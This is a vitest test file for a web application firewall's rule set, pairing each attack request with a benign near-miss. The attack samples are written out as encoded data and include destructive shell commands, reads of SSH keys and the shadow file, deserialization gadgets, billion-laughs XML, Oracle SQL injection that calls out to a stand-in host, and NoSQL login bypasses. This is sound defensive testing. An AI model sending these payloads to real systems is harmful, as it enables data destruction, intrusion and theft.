/**
 * Bundled rules of rev 2026-12-06a: mechanisms blind payload probe set 3 (863 requests, written before
 * it was measured) showed passing the full pipeline. Destructive and reconnaissance commands after a
 * separator, gadget class names as a whole value, a ViewState opening with a binary-serialized object,
 * the Function constructor returning Node's process, nested internal entities (billion laughs),
 * Oracle's out-of-band packages, and (rev 2026-12-06b) a bare MongoDB operator object as a query or form value. Each fires on its attack and stays quiet on the benign text closest to it.
 */
import { describe } from 'vitest';
import { form, json, q, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet, xml } from './bundled-requests.js';

const { hits, rules } = useBundledRuleSet();

const CASES: RuleCase[] = [
  [9000338, 'block', 'kill every process after a separator', q('p=%3Bkill%20-9%20-1'), q('q=how+to+kill+-9+a+stuck+process')],
  [9000338, 'block', 'dd from /dev/zero onto a disk', form('p=%3Bdd+if%3D%2Fdev%2Fzero+of%3D%2Fdev%2Fsda'), form('msg=I+ran+dd+if%3D%2Fdev%2Fzero+of%3D%2Fdev%2Fsdb+on+my+usb+stick')],
  [9000338, 'block', 'history -c after a pipe', q('p=%7Chistory%20-c'), q('q=browser+history+-c+flag')],
  [9000338, 'block', 'a listing of ~/.ssh', json('{"host":";ls -la ~/.ssh"}'), json('{"doc":"keys live in ~/.ssh; run ls -la ~/.ssh to check"}')],
  [9000338, 'block', 'crontab -l after a separator', form('p=%26%26crontab+-l'), form('q=crontab+-l+shows+nothing')],
  [9000338, 'block', 'getent shadow in a substitution', q('p=%24%28getent%20shadow%29'), q('q=getent+passwd+vs+cat+%2Fetc%2Fpasswd')],
  [9000338, 'block', 'forfiles running a command', q('p=%26%20forfiles%20%2Fp%20c%3A%5Cwindows%20%2Fm%20notepad.exe%20%2Fc%20calc'), q('q=forfiles+%2Fp+c%3A%5Clogs+%2Fm+*.log+%2Fd+-30')],
  [9000338, 'block', 'wmic process call create', q('p=%26%20wmic%20process%20call%20create%20%22calc.exe%22'), q('q=wmic+process+get+name%2Cprocessid')],
  [9001011, 'block', 'javax.script.ScriptEngineManager as a whole value', q('p=javax.script.ScriptEngineManager'), q('q=javax.script.ScriptEngineManager+example+nashorn')],
  [9001011, 'block', 'Spring ClassPathXmlApplicationContext as a whole value', form('p=org.springframework.context.support.ClassPathXmlApplicationContext'), form('q=ClassPathXmlApplicationContext+vs+AnnotationConfigApplicationContext')],
  [9001011, 'block', 'a logback JDBC connection source in a polymorphic array', form('p=%5B%22ch.qos.logback.core.db.DriverManagerConnectionSource%22%2C%7B%22url%22%3A%22jdbc%3Ah2%3Amem%3A%22%7D%5D'), form('q=logback+DriverManagerConnectionSource+pooling')],
  [9001006, 'block', 'a ViewState holding a BinaryFormatter object', form('__VIEWSTATE=%2FwEyxBEAAQAAAP%2F%2F%2F%2F8BAAAAAAAAAAwCAAAAXk1pY3Jvc29mdC5Qb3dlclNoZWxsLkVkaXRvcg%3D%3D'), form('__VIEWSTATE=%2FwEPDwUKMTY3NzE5MjIyMGRkZ5lJ3cQ%3D&__EVENTVALIDATION=%2FwEdAAKw')],
  [9001349, 'block', "the Function constructor returning Node's process", q('p=new%20Function%28%27return%20process%27%29%28%29'), q('q=new+Function%28%27return+this%27%29%28%29')],
  [9000605, 'block', 'nested internal entities (billion laughs) in a form value', form('p=%3C%21DOCTYPE+lolz+%5B%3C%21ENTITY+lol+%22lol%22%3E%3C%21ENTITY+lol2+%22%26lol%3B%26lol%3B%26lol%3B%26lol%3B%22%3E%5D%3E%3Clolz%3E%26lol2%3B%3C%2Flolz%3E'), form('p=%3C%21DOCTYPE+doc+%5B%3C%21ENTITY+product+%22Acme+%26amp%3B+Co+Widget%22%3E%5D%3E%3Cdoc%3E%26product%3B%3C%2Fdoc%3E')],
  [9000605, 'block', 'nested internal entities in an XML body', xml('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><a>&c;</a>'), xml('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY copy "&#169;"><!ENTITY co "Acme">]><a>&co; &copy; 2026</a>')],
  [9000199, 'block', 'UTL_INADDR resolving an address', q('p=1%27%20AND%20UTL_INADDR.GET_HOST_ADDRESS%28%27203.0.113.9%27%29%20IS%20NOT%20NULL--'), q('q=utl_inaddr+package+grants+oracle')],
  [9000199, 'block', 'UTL_HTTP.REQUEST carrying a subquery', form('p=1%27||UTL_HTTP.REQUEST%28%27http%3A%2F%2F203.0.113.9%2F%27||%28SELECT+user+FROM+dual%29%29--'), form('q=oracle+utl_http+request+timeout+setting')],
  [9001355, 'block', 'a bare $ne null object as a query value', q('p=%7B%22%24ne%22%3Anull%7D'), q('where=%7B%22deletedAt%22%3A%7B%22%24ne%22%3Anull%7D%7D')],
  [9001355, 'block', 'a bare $regex match-all object as a form value', form('username=admin&password=%7B%22%24regex%22%3A%22.*%22%7D'), form('filter=%7B%22name%22%3A%7B%22%24regex%22%3A%22%5Emug%22%7D%7D')],
  [9001355, 'block', 'operator objects under username and password in a form value', form('p=%7B%22username%22%3A%7B%22%24ne%22%3Anull%7D%2C%22password%22%3A%7B%22%24ne%22%3Anull%7D%7D'), form('p=%7B%22username%22%3A%22admin%22%2C%22password%22%3A%22%24ne%24null%22%7D')],
  [9001355, 'block', 'an $or holding an empty object', q('p=%7B%22%24or%22%3A%5B%7B%7D%2C%7B%22a%22%3A%22a%22%7D%5D%7D'), q('filter=%7B%22%24or%22%3A%5B%7B%22status%22%3A%22paid%22%7D%2C%7B%22total%22%3A%7B%22%24gte%22%3A100%7D%7D%5D%7D')],
];

describe('bundled rules from blind payload probe set 3 (rev 2026-12-06a)', () => {
  testRuleCases(CASES, hits);
  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});
